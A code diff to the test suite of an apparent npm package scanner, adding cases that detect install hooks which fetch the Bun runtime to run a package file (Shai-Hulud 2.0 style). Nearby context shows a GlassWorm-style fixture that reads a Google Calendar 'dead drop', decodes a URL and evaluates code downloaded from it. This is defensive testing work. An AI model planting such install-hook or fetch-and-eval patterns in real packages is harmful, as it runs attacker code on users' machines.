@@ -28,6 +28,19 @@ describe('CI takeover from package code (Shai-Hulud 2.0)', () => {
   });
 });
 
+describe('an install step that fetches another JavaScript runtime and runs a package file with it (Shai-Hulud 2.0)', () => {
+  const title = 'HIGH Install step fetches another JavaScript runtime (Bun, Deno) and runs a package file with it';
+  it('npm install -g bun then bun on the package\'s file, or npx bun@… in the lifecycle command', async () => {
+    const setup = `const { execSync, spawnSync } = require('child_process');\nconst path = require('path');\ntry { execSync('bun --version'); } catch { execSync('npm install -g bun'); }\nspawnSync('bun', [path.join(__dirname, 'payload.js')]);\n`;
+    expect(titles(await pkg({ 'package.json': manifest({ scripts: { preinstall: 'node setup.js' } }), 'setup.js': setup, 'payload.js': 'module.exports = 1;\n' }))).toContain(title);
+    expect(titles(await pkg({ 'package.json': manifest({ scripts: { preinstall: 'npx -y bun@1.2.0 ./payload.js' } }), 'payload.js': 'module.exports = 1;\n' }))).toContain(title);
+  });
+  it('a message telling the user how to install Bun is not a fetch', async () => {
+    const check = `const { execSync } = require('child_process');\ntry { execSync('bun --version'); } catch { console.warn('Install Bun: curl -fsSL https://bun.sh/install | bash, then run bun cli.js'); }\n`;
+    expect(titles(await pkg({ 'package.json': manifest({ scripts: { postinstall: 'node check.js' } }), 'check.js': check, 'cli.js': 'console.log(1);\n' }))).not.toContain(title);
+  });
+});
+
 describe('dead drops fed to eval (GlassWorm)', () => {
   it('a calendar event or a chain memo read, and code received or decoded evaluated, is CRIT', async () => {
     const code = `const https = require('https');\nconst get = (u) => new Promise((ok) => https.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => ok(b)); }));\n(async () => {\n  const page = await get('https://calendar.app.google/abc');\n  const next = Buffer.from(/<title>(.*)<\\/title>/.exec(page)[1], 'base64').toString();\n  new Function(await get(next))();\n})();\n`;
